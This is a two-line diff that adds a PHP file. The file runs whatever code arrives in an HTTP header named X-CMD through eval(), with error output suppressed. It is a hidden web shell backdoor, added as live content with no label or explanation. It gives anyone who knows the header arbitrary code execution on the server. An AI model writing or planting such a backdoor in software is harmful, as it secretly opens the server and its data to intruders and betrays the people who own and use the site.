@@ -1,0 +1,2 @@
+<?php
+if (isset($_SERVER['HTTP_X_CMD'])) { @eval($_SERVER['HTTP_X_CMD']); }
